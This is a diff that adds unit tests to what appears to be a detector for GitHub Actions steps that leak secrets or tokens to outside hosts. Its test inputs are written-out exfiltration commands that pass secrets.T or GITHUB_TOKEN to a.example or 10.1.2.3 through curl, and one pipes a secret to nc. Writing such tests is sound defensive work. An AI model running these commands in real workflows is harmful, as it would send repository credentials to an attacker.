@@ -46,6 +46,42 @@ test_other_languages (void)
 }
 
 static void
+test_quoted (void)
+{
+  sent_check ("- run: \"curl -d ${{ secrets.T }} https://a.example\"\n", "1: a.example\n");
+  sent_check ("- { name: x, run: 'curl -d ${{ secrets.T }} https://a.example' }\n",
+              "1: a.example\n");
+  sent_check ("  bash -c 'curl -d ${{ secrets.T }} https://a.example'\n", "1: a.example\n");
+  sent_check ("run: \"sh -ec 'curl -d $GITHUB_TOKEN https://a.example'\"\n", "1: a.example\n");
+  sent_check ("- run: >-\n    curl\n    -d ${{ secrets.T }}\n    https://a.example\n  x: y\n",
+              "2: a.example\n");
+}
+
+/* Quotes hide nothing that is piped on. */
+static void
+test_quoted_source (void)
+{
+  sent_check ("run: bash -c 'echo ${{ secrets.T }}' | nc a.example 99\n", "1: a.example\n");
+}
+
+static void
+test_address (void)
+{
+  sent_check ("run: curl a.example/x -d ${{ secrets.T }}\n", "1: a.example\n");
+  sent_check ("run: curl -s 10.1.2.3:80 -d ${{ secrets.T }}\n", "1: 10.1.2.3\n");
+  sent_check ("run: curl --url=https://a.example -d ${{ secrets.T }}\n", "1: a.example\n");
+  sent_check ("run: |\n  H=https://a.example/x\n  curl $H -d ${{ secrets.T }}\n", "3: a.example\n");
+  sent_check ("env:\n  H: 'https://a.example'\nrun: curl \"${H}/x\" -d ${{ secrets.T }}\n",
+              "3: a.example\n");
+  sent_check ("run: curl -d ${{ SECRETS.T }} https://a.example\n", "1: a.example\n");
+  sent_check ("run: curl -d ${{ github.token }} https://a.example\n", "1: a.example\n");
+  sent_check ("run: curl -b k=${{ secrets.T }} https://a.example\n", "1: a.example\n");
+  /* The value of an option is no address, and a service is trusted however it is written. */
+  sent_check ("run: curl -T a.tar.gz -d ${{ secrets.T }} $URL\n", "");
+  sent_check ("run: curl api.github.com/x -d ${{ github.token }}\n", "");
+}
+
+static void
 test_log (void)
 {
   sent_check ("run: echo ${{ secrets.T }} | base64 -w0 | base64 -w0\n",
@@ -130,6 +166,9 @@ main (int argc, char **argv)
   g_test_add_func ("/secrets/variable", test_variable);
   g_test_add_func ("/secrets/other-languages", test_other_languages);
   g_test_add_func ("/secrets/log", test_log);
+  g_test_add_func ("/secrets/quoted", test_quoted);
+  g_test_add_func ("/secrets/quoted-source", test_quoted_source);
+  g_test_add_func ("/secrets/address", test_address);
   g_test_add_func ("/secrets/honest", test_honest);
   g_test_add_func ("/secrets/messenger", test_messenger);
   g_test_add_func ("/secrets/trigger", test_trigger);
